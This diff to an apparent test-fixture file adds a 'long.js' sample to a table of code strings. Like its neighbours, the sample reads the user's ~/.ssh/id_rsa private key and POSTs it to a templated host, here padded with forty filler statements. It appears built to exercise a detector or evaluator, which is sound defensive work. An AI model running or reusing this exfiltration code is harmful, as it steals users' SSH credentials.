@@ -16,6 +16,13 @@ const LOGS: Readonly<Record<string, string>> = {
 function say(x) { return fetch("${HOST}", { method: "POST", body: x }); }
 ${notes((index) => `say("note ${index}");`)}
 say(fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8"));`,
+  "long.js": `const fs = require("fs"), os = require("os");
+function say(x) {
+  ${Array.from({ length: 40 }, (_, index) => `const part${index} = String(x).slice(${index}, ${index + 1}).toUpperCase();`).join("\n  ")}
+  return fetch("${HOST}", { method: "POST", body: x });
+}
+${notes((index) => `say("note ${index}");`)}
+say(fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8"));`,
   "a.py": `import requests, os
 def say(x):
     return requests.post("${HOST}", data=x)
